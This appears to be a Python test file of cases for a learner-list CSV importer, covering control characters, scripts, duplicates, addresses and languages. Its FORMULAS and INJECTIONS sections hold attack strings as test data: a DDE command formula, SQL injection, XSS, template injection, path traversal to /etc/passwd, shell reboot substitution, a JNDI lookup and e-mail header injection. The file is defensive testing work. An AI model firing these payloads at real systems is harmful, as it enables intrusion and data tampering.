"""Lists with every kind of cell: scripts, formulas, controls, doubles, addresses, and what they mean."""

from __future__ import annotations

from collections.abc import Iterator

from tests.lists.case import ELODIE, SOME, TWO, ZOE, Case, Learner, because


def controls() -> Iterator[Case]:
    """Characters that are no text."""
    for code in (*range(0x01, 0x09), *range(0x0B, 0x0D), *range(0x0E, 0x20), 0x7F, 0x80, 0x85, 0x9F):
        yield Case(
            f"control-{code:02x}",
            text=f"Nom;E-mail\nJe{chr(code)}an;jean@example.org\nZoë Voorbeeld;zoe@example.com",
            right=(ZOE,),
            wrong={2: because("not-text")},
        )
    yield Case("control-zero-pasted", text="Nom;E-mail\nJe\x00an;jean@example.org\n", unreadable="not-text")
    yield Case("control-zero-in-a-file", data=b"Nom;E-mail\nJe\x00an;jean@example.org\n", unreadable="not-text")
    yield Case("control-zeros", data=b"\x00" * 1000, unreadable="not-text")
    yield Case("control-end-of-file", text=TWO + "\x1a", wrong=None, right=(ELODIE, ZOE))
    yield Case(
        "control-in-an-address", text="An;an\x07@example.org", right=(), wrong={1: because("not-text", "email-wrong")}
    )
    yield Case("control-in-a-heading", text="Nom;E-mail;a\x1bb\nÉlodie Exemple;elodie@example.org;", right=(ELODIE,))
    for name, character in {
        "private-use": "\ue000",
        "private-use-plane-16": "\U0010fffd",
        "not-a-character": "\ufdd0",
        "last-code-point": "\U0010ffff",
        "high-surrogate": "\ud800",
        "low-surrogate": "\udfff",
        "escaped-byte": "\udc80",
    }.items():
        yield Case(
            f"character-{name}",
            text=f"Nom;E-mail\nJe{character}an;jean@example.org\nZoë Voorbeeld;zoe@example.com",
            right=(ZOE,),
            wrong={2: because("not-text")},
        )
    yield Case(
        "character-surrogate-in-a-heading", text="Nom;E-mail;\ud800\nÉlodie Exemple;elodie@example.org;", wrong=None
    )
    yield Case("character-surrogate-in-an-address", text="An;\ud800@example.org", right=(), wrong={1: SOME})
    yield Case("character-surrogates-of-a-pair", text="\ud83d\ude00;an@example.org", wrong=None)


FORMULAS = {
    "hyperlink": '=HYPERLINK("http://example.org/?"&A1)',
    "command": "=cmd|' /C calc'!A0",
    "telephone": "+32 470 00 00 00",
    "sum": "@SUM(A1:A9)",
    "minus": "-1",
    "minus-formula": "-2+3+cmd",
    "plain": "=1+1",
    "tab-first": "\t=1+1",
    "blank-first": "  =1+1",
    "zero-width-first": "\u200b=1+1",
    "hard-blank-first": "\xa0=1+1",
    "mark-of-order-first": "\ufeff=1+1",
}


def formulas() -> Iterator[Case]:
    """What a spreadsheet would calculate when the list is given out again."""
    for name, formula in FORMULAS.items():
        cell = '"' + formula.replace('"', '""') + '"'
        yield Case(
            f"formula-in-a-name-{name}",
            text=f"Nom;E-mail\n{cell};jean@example.org\nZoë Voorbeeld;zoe@example.com\n",
            right=(ZOE,),
            wrong={2: because("formula")},
        )
    for column, heading in {"employer": "Employeur", "funding": "Dossier"}.items():
        for name in ("hyperlink", "command", "telephone", "sum"):
            cell = '"' + FORMULAS[name].replace('"', '""') + '"'
            yield Case(
                f"formula-in-{column}-{name}",
                text=f"Nom;E-mail;{heading}\nJean;jean@example.org;{cell}\nZoë Voorbeeld;zoe@example.com;\n",
                right=(ZOE,),
                wrong={2: because("formula")},
            )
    yield Case(
        "formula-in-an-address",
        text='Nom;E-mail\nJean;"=""jean@example.org"""\n',
        right=(Learner("Jean", "jean@example.org"),),
    )
    yield Case("formula-as-an-address", text="Nom;E-mail\nJean;=A1\n", right=(), wrong={2: because("email-wrong")})
    yield Case("formula-guessed", text="=cmd@example.org\n", right=(), wrong={1: because("formula")})
    yield Case(
        "formula-in-a-first-name",
        text="Prénom;Nom;E-mail\n=1+1;Exemple;jean@example.org",
        right=(),
        wrong={2: because("formula")},
    )
    yield Case(
        "formula-tab-without-quotes",
        text=TWO + "\t=1+1;jean@example.org\n",
        right=(ELODIE, ZOE),
        wrong={4: because("formula")},
    )
    yield Case("formula-sign-inside", text="Jean-Luc + An = @;j@example.org", wrong=None)
    yield Case("formula-bare", text="=A1+1;jean@example.org", right=(), wrong={1: because("formula")})


def ragged_rows() -> Iterator[Case]:
    """Rows that are longer or shorter than their headings."""
    head = "Nom;E-mail;Langue\n"
    for name, row, reasons in (
        ("one-cell", "Jean", because("email-missing")),
        ("one-cell-address", "jean@example.org", because("email-missing")),
        ("too-many", "Jean;jean@example.org;fr;plus", because("ragged")),
        ("too-many-after-blanks", "Jean;jean@example.org;fr;;;plus", because("ragged")),
        ("shifted", "Jean;Exemple;jean@example.org", because("email-wrong", "lang-unknown")),
        ("first-cell-empty", ";Jean;jean@example.org", because("email-wrong", "lang-unknown")),
        ("only-last-cell", ";;fr", because("email-missing")),
        ("only-beyond", ";;;;plus", because("email-missing", "ragged")),
    ):
        yield Case(f"ragged-{name}", text=head + row, right=(), wrong={2: reasons})
    yield Case("ragged-too-few", text=head + "Élodie Exemple;elodie@example.org", right=(ELODIE,))
    yield Case("ragged-trailing-separators", text=head + "Élodie Exemple;elodie@example.org;;;;;;", right=(ELODIE,))
    yield Case(
        "ragged-each-line-as-in-excel",
        text=TWO.replace("\n", ";;;\r\n") + ";;;;\r\n" * 20,
        right=(ELODIE, ZOE),
    )
    yield Case("ragged-thousand-cells", text=head + "Élodie Exemple;elodie@example.org" + ";" * 1000, right=(ELODIE,))
    yield Case(
        "ragged-thousand-headings",
        text="Nom;E-mail" + ";x" * 1000 + "\nÉlodie Exemple;elodie@example.org",
        right=(ELODIE,),
    )
    yield Case(
        "ragged-comma-in-a-name",
        text="Nom,E-mail\nExemple, Jean,jean@example.org\n",
        right=(),
        wrong={2: because("ragged", "email-wrong")},
    )


def doubles() -> Iterator[Case]:
    """Learners that are there twice."""
    head = "Nom;E-mail;Langue\n"
    one = ELODIE._replace(lang="fr")
    row = "Élodie Exemple;elodie@example.org;fr\n"
    for name, again in {
        "same": row,
        "other-capitals-of-the-address": "Élodie Exemple;Elodie@Example.ORG;fr\n",
        "other-word-for-the-language": "Élodie Exemple;elodie@example.org;français\n",
        "other-form-of-accents": "E\u0301lodie Exemple;elodie@example.org;fr\n",
        "blanks-around": "  Élodie Exemple ; elodie@example.org ;fr \n",
        "two-blanks": "Élodie  Exemple;elodie@example.org;fr\n",
        "hard-blank": "Élodie\xa0Exemple;elodie@example.org;fr\n",
        "mailto": "Élodie Exemple;mailto:elodie@example.org;fr\n",
    }.items():
        yield Case(f"double-{name}", text=head + row + again, right=(one,))
    for name, again in {
        "other-name": "Zoë Voorbeeld;elodie@example.org;fr\n",
        "other-language": "Élodie Exemple;elodie@example.org;nl\n",
        "other-name-and-capitals": "Zoë Voorbeeld;ELODIE@example.org;fr\n",
        "without-name": ";elodie@example.org;fr\n",
    }.items():
        yield Case(f"double-{name}", text=head + row + again, right=(one,), wrong={3: because("twice")})
    yield Case("double-thirty-times", text=head + row * 30, right=(one,))
    yield Case("double-name", text="Jean;a@example.org\nJean;b@example.org\n", count=2)
    yield Case(
        "double-wrong-then-right",
        text=head + "Élodie Exemple;elodie@example.org;xx\n" + row,
        wrong=None,
    )
    yield Case(
        "double-no-address",
        text=head + "Jean;;fr\nJean;;fr\n",
        right=(),
        wrong={2: because("email-missing"), 3: because("email-missing")},
    )
    yield Case("double-plus", text="Jean;a@example.org\nJean;a+1@example.org\n", count=2)


SCRIPTS = {
    "arabic": "محمد المثال",
    "arabic-with-digits": "مثال ٣",
    "hebrew": "דוגמה כהן",
    "chinese": "王小明",
    "chinese-rare": "𠮷野家",
    "japanese": "山田 太郎",
    "korean": "홍길동",
    "cyrillic": "Иван Примеров",
    "greek": "Γιώργος Παραδείγματος",
    "thai": "สมชาย ตัวอย่าง",
    "amharic": "አበበ ምሳሌ",
    "armenian": "Օրինակ Անի",
    "georgian": "მაგალითი ანა",
    "devanagari": "उदाहरण कुमार",
    "tamil": "எடுத்துக்காட்டு",
    "tibetan": "དཔེ་མཚོན།",
    "vietnamese": "Nguyễn Ví Dụ",
    "turkish": "İbrahim Işık Örnek",
    "polish": "Łukasz Przykładżęć",
    "icelandic": "Þóra Dæmiðsdóttir",
    "german": "Strauß Große",
    "irish": "Síle O’Shampla",
    "apostrophe": "D'Hondt Voorbeeld",
    "hyphens": "Anne-Marie Exemple-Modèle",
    "dots": "J. P. Exemple Jr.",
    "one-letter": "O",
    "emoji": "Jean 😀 Exemple",
    "emoji-skin": "👍🏽 An",
    "accents-that-do-not-compose": "Q̃uin M̈uster",
    "mathematical": "𝓙𝓮𝓪𝓷",
    "full-width": "Ｊｅａｎ",
    "digits": "Jean II 3",
    "only-a-dot": ".",
}
HIDDEN = {
    "right-to-left-mark": "\u200f",
    "left-to-right-mark": "\u200e",
    "right-to-left-override": "\u202e",
    "isolate": "\u2067",
    "zero-width-space": "\u200b",
    "word-joiner": "\u2060",
    "soft-hyphen": "\xad",
    "mark-of-order": "\ufeff",
}


def scripts() -> Iterator[Case]:
    """Names in every script, and what is pasted along with them."""
    for name, text in SCRIPTS.items():
        yield Case(
            f"script-{name}", text=f"Nom;E-mail\n{text};a@example.org\n", right=(Learner(text, "a@example.org"),)
        )
    for name, hidden in HIDDEN.items():
        yield Case(
            f"hidden-{name}",
            text=f"Nom;E-mail\n{hidden}Élodie {hidden}Exemple{hidden};{hidden}elodie@{hidden}example.org\n",
            right=(ELODIE,),
        )
        yield Case(
            f"hidden-{name}-is-no-name",
            text=f"Nom;E-mail\n{hidden};a@example.org",
            right=(Learner("A", "a@example.org"),),
        )
    yield Case("script-decomposed", text="E\u0301lodie Exemple;elodie@example.org", right=(ELODIE,))
    yield Case("script-family-of-emoji", text="\U0001f469\u200d\U0001f469\u200d\U0001f466;a@example.org", count=1)
    yield Case("script-persian-joiner", text="علی\u200cرضا;a@example.org", count=1)


INJECTIONS = {
    "sql": "Robert'); DROP TABLE people;--",
    "sql-or": "' OR 1=1 --",
    "html": "<script>alert(1)</script>",
    "html-picture": '<img src=x onerror="alert(1)">',
    "template": "{{ 7*7 }} ${7*7} {% raw %}",
    "percent": "%s%n%00 %(name)s",
    "path": "../../etc/passwd",
    "shell": "$(reboot) `reboot` | reboot",
    "log": "Jean ${jndi:ldap}",
    "escape": "\\n\\u0000\\x00",
    "null": "NULL",
    "none": "None",
    "markdown": "[Jean](javascript:alert(1)) **fort**",
}


def injections() -> Iterator[Case]:
    """Names that are meant for someone else than a reader: they are text, and stay it."""
    for name, text in INJECTIONS.items():
        cell = '"' + text.replace('"', '""') + '"'
        yield Case(
            f"injection-{name}", text=f"Nom;E-mail\n{cell};a@example.org", right=(Learner(text, "a@example.org"),)
        )
    for name, text in {
        "link": "Jean https://example.org/a",
        "log-link": "Jean ${jndi:ldap://example.org/a}",
        "bare-link": "Jean example.com",
    }.items():
        yield Case(
            f"injection-{name}", text=f"Nom;E-mail\n{text};a@example.org", right=(), wrong={2: because("name-address")}
        )
    yield Case(
        "injection-header-in-an-address",
        text='Nom;E-mail\nJean;"a@example.org\nBcc: b@example.org"',
        right=(),
        wrong={2: SOME},
    )
    yield Case(
        "injection-header-in-a-name",
        text='Nom;E-mail\n"Jean\r\nBcc: b@example.org";a@example.org',
        right=(),
        wrong={2: SOME},
    )
    yield Case("injection-html-in-an-address", text="Nom;E-mail\nJean;<b>@example.org", right=(), wrong={2: SOME})


def spaces() -> Iterator[Case]:
    """Blanks of every width, around and inside."""
    for name, blank in {
        "hard": "\xa0",
        "narrow-hard": "\u202f",
        "thin": "\u2009",
        "em": "\u2003",
        "wide": "\u3000",
        "figure": "\u2007",
        "two": "  ",
        "ten": " " * 10,
        "mixed": " \xa0 ",
    }.items():
        yield Case(
            f"blank-{name}",
            text=f"Nom;E-mail\n{blank}Élodie{blank}Exemple{blank};{blank}elodie@example.org{blank}\n",
            right=(ELODIE,),
        )


def addresses() -> Iterator[Case]:
    """Addresses that are ones, and addresses that are not."""
    for name, cell, email in (
        ("plus", "jean+cours@example.org", "jean+cours@example.org"),
        ("capitals", "Jean@EXAMPLE.ORG", "jean@example.org"),
        ("mailto", "mailto:jean@example.org", "jean@example.org"),
        ("mailto-capitals", "MAILTO:jean@example.org", "jean@example.org"),
        ("mailto-and-blank", "Mailto: jean@example.org", "jean@example.org"),
        ("idn", "jean@exämple.org", "jean@exämple.org"),
        ("idn-chinese", "jean@例子.example.org", "jean@例子.example.org"),
        ("idn-punycode", "jean@xn--exmple-cua.example.org", "jean@exämple.example.org"),
        ("apostrophe", "jan.d'hondt@example.org", "jan.d'hondt@example.org"),
        ("underscores", "jean_1-exemple@mail.example.org", "jean_1-exemple@mail.example.org"),
        ("digits", "123@example.org", "123@example.org"),
        ("sharp-s", "jean@straße.example.org", "jean@straße.example.org"),
        ("in-brackets", "Jean Exemple <jean@example.org>", "jean@example.org"),
        ("long-local", "a" * 64 + "@example.org", "a" * 64 + "@example.org"),
        ("many-labels", "jean@a.b.c.d.example.org", "jean@a.b.c.d.example.org"),
    ):
        yield Case(f"address-{name}", text=f"Nom;E-mail\nJean;{cell}\n", right=(Learner("Jean", email),))
    for name, cell in {
        "two-at-signs": "jean@exemple@example.org",
        "no-at-sign": "jean.example.org",
        "no-domain": "jean@",
        "no-local": "@example.org",
        "no-dot": "jean@localhost",
        "two-dots": "jean@example..org",
        "two-dots-local": "jean..e@example.org",
        "dot-first": ".jean@example.org",
        "dot-last-local": "jean.@example.org",
        "dot-first-domain": "jean@.example.org",
        "dot-last": "jean@example.org.",
        "blank": "jean exemple@example.org",
        "comma": '"jean,exemple@example.org"',
        "two": "jean@example.org jean@example.com",
        "two-with-slash": "jean@example.org/jean@example.com",
        "long-local": "a" * 65 + "@example.org",
        "long": "a@" + "b." * 130 + "org",
        "mailto-in-brackets": "[mailto:jean@example.org]",
        "parentheses": "(jean@example.org)",
        "question": "jean@example.org?subject=Bonjour",
        "path": "jean@example.org/a",
        "hyphen-first": "jean@-example.org",
        "ip": "jean@127.0.0.1",
        "ip-literal": "jean@[127.0.0.1]",
        "port": "jean@example.org:25",
        "percent": "jean@exam%70le.org",
        "wide-at-sign": "jean＠example.org",
        "underscore-in-domain": "jean@ex_ample.org",
        "colon": "e-mail:jean@example.org",
        "backslash": "jean\\@example.org",
        "hard-blank-inside": "jean\xa0e@example.org",
        "none": "-",
        "word": "néant",
    }.items():
        yield Case(
            f"address-wrong-{name}", text=f"Nom;E-mail\nJean;{cell}\n", right=(), wrong={2: because("email-wrong")}
        )


LANGS = {
    "fr": ("fr", "FR", "Français", "francais", "FRANÇAIS", "French", "Frans", " fr "),
    "nl": ("nl", "NL", "Néerlandais", "neerlandais", "Dutch", "Nederlands", "nl\xa0"),
    "en": ("en", "EN", "Anglais", "English", "Engels"),
}
AUDIENCES = {
    "job-seeker": (
        "Job seeker",
        "job-seeker",
        "Demandeur d'emploi",
        "Demandeur d’emploi",
        "demandeuse d'emploi",
        "Werkzoekende",
    ),
    "worker": (
        "Worker",
        "Employee",
        "Travailleur",
        "travailleuse",
        "Employé",
        "employée",
        "Werknemer",
        "Arbeider",
        "Bediende",
    ),
    "student": ("Student", "Étudiant", "étudiante", "Élève", "Leerling"),
    "teacher": ("Teacher", "Enseignant", "enseignante", "Professeur", "Leerkracht", "Leraar", "Docent"),
}


def meanings() -> Iterator[Case]:
    """Languages and audiences in the three languages, and words that are neither."""
    for known, column, heading in ((LANGS, "lang", "Langue"), (AUDIENCES, "audience", "Statut")):
        for meaning, words in known.items():
            rows = "".join(f"Jean;jean{number}@example.org;{word}\n" for number, word in enumerate(words))
            learners = (Learner("Jean", f"jean{number}@example.org") for number in range(len(words)))
            yield Case(
                f"{column}-{meaning}",
                text=f"Nom;E-mail;{heading}\n{rows}",
                right=tuple(
                    each._replace(lang=meaning) if column == "lang" else each._replace(audience=meaning)
                    for each in learners
                ),
            )
    for number, word in enumerate(("de", "Deutsch", "xx", "fr/nl", "法语", "1", "?", "<b>fr</b>")):
        yield Case(
            f"lang-wrong-{number}",
            text=f"Nom;E-mail;Langue\nAn;an@example.org;{word}",
            right=(),
            wrong={2: because("lang-unknown")},
        )
    for number, word in enumerate(("boss", "admin", "directeur", "0", "学生", "*")):
        yield Case(
            f"audience-wrong-{number}",
            text=f"Nom;E-mail;Audience\nAn;an@example.org;{word}",
            right=(),
            wrong={2: because("audience-unknown")},
        )
    yield Case("meanings-empty", text="Nom;E-mail;Langue;Statut\nÉlodie Exemple;elodie@example.org;;", right=(ELODIE,))
    yield Case(
        "meanings-both-wrong",
        text="Nom;E-mail;Langue;Audience\nAn;an;xx;yy",
        right=(),
        wrong={2: because("email-wrong", "lang-unknown", "audience-unknown")},
    )


def too_long() -> Iterator[Case]:
    """Cells at their limits, and beyond them."""
    for letter, kind in (("x", "ascii"), ("é", "accents"), ("语", "chinese"), ("😀", "emoji")):
        yield Case(
            f"long-name-120-{kind}",
            text=f"Nom;E-mail\n{letter * 120};a@example.org",
            right=(Learner(letter * 120, "a@example.org"),),
        )
        yield Case(
            f"long-name-121-{kind}",
            text=f"Nom;E-mail\n{letter * 121};a@example.org",
            right=(),
            wrong={2: because("name-too-long")},
        )
    yield Case(
        "long-name-in-two",
        text=f"Prénom;Nom;E-mail\n{'x' * 60};{'y' * 60};a@example.org",
        right=(),
        wrong={2: because("name-too-long")},
    )
    for column, heading, most in (("employer", "Employeur", 120), ("funding", "Dossier", 60)):
        right = Learner("An", "a@example.org")
        right = right._replace(employer="é" * most) if column == "employer" else right._replace(funding="é" * most)
        yield Case(f"long-{column}-{most}", text=f"Nom;E-mail;{heading}\nAn;a@example.org;{'é' * most}", right=(right,))
        yield Case(
            f"long-{column}-{most + 1}",
            text=f"Nom;E-mail;{heading}\nAn;a@example.org;{'é' * (most + 1)}",
            right=(),
            wrong={2: because("too-long")},
        )
